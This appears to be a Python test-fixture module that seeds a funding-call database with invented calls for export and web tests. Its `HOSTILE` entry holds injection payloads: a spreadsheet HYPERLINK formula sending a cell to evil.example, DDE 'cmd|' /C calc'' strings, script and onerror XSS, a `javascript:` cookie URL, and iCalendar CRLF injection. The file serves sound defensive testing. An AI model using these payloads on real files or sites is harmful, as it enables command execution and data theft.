"""Calls stored straight into the test database for the export, review and web tests.

Reconstructed — not a capture: titles and funders imitate real calls (EU Funding & Tenders,
AFD, Interreg Caraïbes) so the exports look like what officers see, but every value is made up
for the test. `HOSTILE` is a call built to attack each export (formula payloads, markup,
a `javascript:` link, control characters).
"""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta
from typing import Any

from sqlalchemy.orm import Session

from fundradar.pipeline.models import CallRow, Sighting

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)  # the conftest `now`

HOSTILE: dict[str, Any] = {
    "key": "evil:1",
    "source": "evil",
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click") <script>alert("t")</script>'
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:injected\r\nSUMMARY:injected",
    "funder": "+cmd|' /C calc'!A0",
    "programme": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "</content><script>alert(1)</script>\x00\x07 -2+3 \r\nBEGIN:VEVENT",
    "url": "javascript:alert(document.cookie)",
    "reasons": ["-2+3+cmd|' /C calc'!A0", "\t=1+1", "  =2+2", "<img src=x onerror=alert(1)>"],
    "themes": ["<b>bold</b>", "=theme"],
    "band": "high",
    "score": 99,
}


def add_call(session: Session, n: int = 1, **fields: Any) -> CallRow:
    """A stored call with sensible defaults; any CallRow field can be overridden."""
    key = fields.pop("key", None) or f"eu_ft:TOPIC-{n:04d}"
    url = fields.pop("url", None) or f"https://ec.europa.eu/info/funding-tenders/topic/{n}"
    values: dict[str, Any] = {
        "source": "eu_ft",
        "source_ref": key.split(":", 1)[1],
        "title": f"Call number {n} for resilient island communities",
        "summary": "Support for climate resilience in Small Island Developing States.",
        "funder": "European Commission",
        "programme": "Horizon Europe",
        "language": "en",
        "deadline": NOW + timedelta(days=10 + n),
        "status": "open",
        "score": 70,
        "band": "high",
        "themes": ["climate_resilience"],
        "reasons": ["Eligible: OECS member states named", "Theme: climate resilience"],
        "first_seen": NOW - timedelta(days=2),
        "last_seen": NOW,
    }
    values.update(fields)
    row = CallRow(
        key=key,
        url=url,
        canonical_url=fields.get("canonical_url", url),
        content_hash=hashlib.sha256(key.encode()).hexdigest(),
        **{k: v for k, v in values.items() if k != "canonical_url"},
    )
    row.sightings.append(
        Sighting(source=values["source"], source_ref=values["source_ref"], url=url,
                 canonical_url=row.canonical_url, title=values["title"])
    )  # fmt: skip
    session.add(row)
    session.flush()
    return row


def add_hostile(session: Session, **fields: Any) -> CallRow:
    return add_call(session, 999, **{**HOSTILE, **fields})
